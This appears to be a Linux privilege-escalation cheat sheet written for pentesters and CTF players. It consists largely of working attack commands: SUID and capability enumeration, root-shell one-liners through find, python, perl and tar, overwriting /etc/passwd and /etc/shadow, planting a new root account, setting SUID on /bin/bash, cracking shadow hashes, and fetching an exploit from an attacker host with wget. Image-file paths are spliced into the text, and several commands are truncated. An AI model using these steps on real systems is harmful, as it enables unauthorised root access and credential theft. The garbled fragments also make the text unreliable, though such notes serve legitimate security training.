It searches from the database on the system. It's faster than"find" but the found information is older.

locate data
locate flag
locate flag*.txt
locate *flag*
locate password
locate *password*
locate *save*
locate *save.txt
locate user.txt
locate user*
locate *user*locate root.txt
locate *root*
locate .db
locate .txt

SUID (Set User ID)

It allows users to run an executable as root privilege.

# Option 1
find / -type f -perm -04000 2>/dev/null
# Option 2
find / -type f -perm -u=s 2>/dev/null# Option 3
find / -user root -perm -4000 -exec ls -ldb {} \; 2>/dev/null

If you'll get some SUID files, research the information of them using GTFOBins.


If the "find" command is set as SUID, you can execute some commands as root privileges.

find ./ -exec "whoami" \;
find /etc/shadow -exec cat {} \;
find /root -exec ls -al {} \;


If the "cputils" is set as SUID, you can copy the sensitive file to another one.


Enter the name of source file: /home/<user>/.ssh/id_rsa
Enter the name of target file: /tmp/id_rsa


  1. Copy /etc/passwd and Update the Root Line
cp /etc/passwd .vim passwd

Then update "root:x:..." to "root:password123:...".

  1. Replace with Our New Passwd File

Using pandoc command, we can replace the original /etc/passwd with our updated passwd file.

pandoc ./passwd -t plain -o /etc/passwd

Now we can login as root using new password.

su root
Password: password123


This exploit is useful.

# Download it in local machine
wget -O

# Transfer it to target machinewget http://<local-ip>:8000/
python3 &
firejail --join=<PID>
su -

Writable Directories & Files

#Writable directories
find / -writable 2>/dev/null | cut -d "/" -f 2,3 | sort -u

# System service files
find / -writable -name "*.service" 2>/dev/null


To find files that are set capabilities.

getcap -r / 2>/dev/null


First we need to check the current user id by executing 'id' command.


uid=33(www-data) gid=33(www-data) groups=33(www-data)

Then execute the following command to modify the file owner to the current user.
Replace the attribute numbers with the current user id.

# Python
python -c 'import os;os.chown("/etc/shadow",33,33)'# Ruby
ruby -e 'require "fileutils"; FileUtils.chown(33, 33, "/etc/shadow")'
# directories also can be modified.
ruby -e 'require "fileutils"; FileUtils.chown(33, 33, "/root")'


# Perl
perl -e 'use POSIX (setuid); POSIX::setuid(0); exec "/bin/bash";'

php -r "posix_setuid(0); system('$CMD');"

# Python
python -c 'import os; os.setuid(0); os.system("/bin/bash")'


# Tcpdump - we can sniff sensitive information by running tcpdump for a while.
tcpdump -i lo -A

Bypass file read permission checks and directory read and execute permission checks.

# Tar (
tar xf "$LFILE" -I '/bin/sh -c "cat 1>&2"'

Set Capabilitiessetcap cap_setuid+ep /path/to/binary

If you found the setcap with SUID, you can manipulate commands like Python.

cp /usr/bin/python3 /home/<current-user>/python3
setcap cap_setuid+ep /home/<current-user>/python3

Then get a root shell.

/home/<current-user>/python3 -c 'import os; os.setuid(0); os.system("/bin/bash")'

Override /etc/passwd, /etc/shadow


If we have write permission of /etc/passwd by some means, we can modify this file as desired for us. First check the content of that file with cat /etc/passwd.


By removing this x character in the root line, we can become root withoutpassword. Below


After that, we can get a shell as root using the following command.

su root


If we have write permission of/etc/shadow by some means, we can modify the password for each user.
First of all, create a new password using openssl.

# -6: sha512 algorithm
# password: this is the root password
openssl passwd -6 salt=salt password

# output

After generating the hash, update the root password hash to this hash ($6$salt$I…) in /etc/shadow.


Now we can get a shell as root with the password "password".

su root
# password: password

Sensitive Contents in Files

# -r: recursive
# -n: line number
# -i: ignore case
grep -rni root ./
grep -rni password ./
grep -rni passwd ./
grep -rni db_password ./
grep -rni db_passwd ./# Find user's information
grep -rni root ./
grep -rni john ./

# -e: OR Searching
grep -re admin -re root -re credential -re password ./
grep -re secret -re key ./

# -v: Exclude
grep -rni password -v node_modules ./

# -E: regex
grep -riE 'flag{.*}' ./

# IP Address Searching
grep -rE -o "([0-9]{1,3}[\.]){3}[0-9]{1,3}" ./

# -h: no output filenames
grep -h root ./

Disks (Drives)

List disks information on the target system.

# Find mounted folders
# List information about block drives
# or
fdisk -l
# or
ls -al /dev | grep disk

# ---

# Result examples
xvda    202:0    0  40G  0 disk
└─xvda1 202:1    0  40G  0 part /etc/hosts

If we find the drives, wecan mount it.

mkdir -p /mnt/tmp
mount /dev/xvda1 /mnt/tmp

Crack User Passwords

If we can access /etc/passwd and /etc/shadow as well, we can crack user passwords using unshadow and John The Ripper.

1. Copy Files

cp /etc/passwd ./passwd.txt
cp /etc/shadow ./shadow.txt

2. Combines Two Files

unshadow passwd.txt shadow.txt > passwords.txt

3. Crack Passwords

john --wordlist=wordlist.txt passwords.txt

# If the hash in /etc/shadow contains the $y$ prefix, specify the hash format to "crypt".
# btw, $ye$ is the scheme of the yescrypt.
john --format=crypt --wordlist=wordlist.txt passwords.txt

Execute Commands as Root Privilege

Change Shebang in Shell Script

Add "-p" option at the first line to execute the script as root privilege.

#!/bin/bash -pUse the Set User ID (SUID)

If you can change permission of the /bin/bash , add SUID to the file.

chmod 4755 /bin/bash

Then you execute it as root privilege by adding "-p" option.
You'll be able to pwn the target shell.

user@machine:~/$ /bin/bash -p
root@machine:~/$ whoami

Update Sensitive Information

1. Change Password of Current User

We need to know the current user's password.

echo -n '<current-password>\n<new-password>\n<new-password>' | passwd

2. Add Another Root User to /etc/shadow

  1. Generate New Password

    # -6: SHA512
    openssl passwd -6 -salt salt password

    Copy the output hash.

  2. Add New Line to /etc/shadow in Target Machine

    You need to do as root privileges.

    echo '<new-user-name>:<generated-password-hash>:19115:0:99999:7:::' >> /etc/shadow
  3. Switch to New User

    To confirm, switch togenerated new user.

    su <new-user>

Display the Content of Files You Don't Have Permissions

Using "more" command.

1. Make the Terminal's Window Size Smaller

2. Run "more" Command

The text like "--More--(60%)" will be appeared.

3. Press 'v' on Keyboard to Enter Vim Mode

4. Enter ':e ~/somefile'

Password Guessing fromOld One

password2021 -> password2022, password2023
april123 ->may123, june123
apple -> banana, orange